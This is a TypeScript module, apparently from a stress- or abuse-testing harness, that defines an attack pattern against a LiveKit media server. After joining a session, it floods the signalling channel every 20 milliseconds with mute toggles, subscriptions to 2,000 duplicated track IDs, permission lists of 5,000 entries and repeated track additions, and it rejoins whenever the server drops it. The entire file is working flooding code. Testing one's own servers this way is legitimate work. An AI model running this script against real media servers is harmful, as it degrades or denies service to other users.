import { TrackSource, TrackType } from '@livekit/protocol'
import { enterMedia, everyMs, openMicrophone } from '../intoLesson.ts'
import type { Pattern } from '../pattern.ts'

export const pattern: Pattern = {
  what: 'fifty messages a second to the media engine: mutes, subscriptions to 2,000 tracks, permissions, tracks that come and go; and again after each end',
  attack: async (target) => {
    let { client, join } = await enterMedia(target)
    let { info } = await openMicrophone(client)
    let [sent, sessions] = [0, 1]
    const trackSids = Array.from({ length: 2000 }, () => info.sid)
    await everyMs(target, 20, async () => {
      if (client.signal.readyState > 1) {
        const again = await join().catch(() => undefined)
        if (!again) return true
        client = again
        sessions++
        info = (await openMicrophone(client).catch(() => ({ info }))).info
      }
      const isEven = ++sent % 2 === 0
      client.send({ case: 'mute', value: { sid: info.sid, muted: isEven } })
      if (sent % 3 === 0) client.send({ case: 'subscription', value: { trackSids, subscribe: isEven } })
      if (sent % 3 === 1) {
        const trackPermissions = Array.from({ length: isEven ? 5000 : 0 }, (_, n) => ({
          participantIdentity: `p${n}`,
        }))
        client.send({ case: 'subscriptionPermission', value: { allParticipants: !isEven, trackPermissions } })
      }
      if (sent % 3 === 2) {
        client.send({
          case: 'addTrack',
          value: { cid: `c${sent}`, source: TrackSource.MICROPHONE, type: TrackType.AUDIO },
        })
      }
      return true
    })
    return `${sent} rounds in ${sessions} sessions`
  },
}
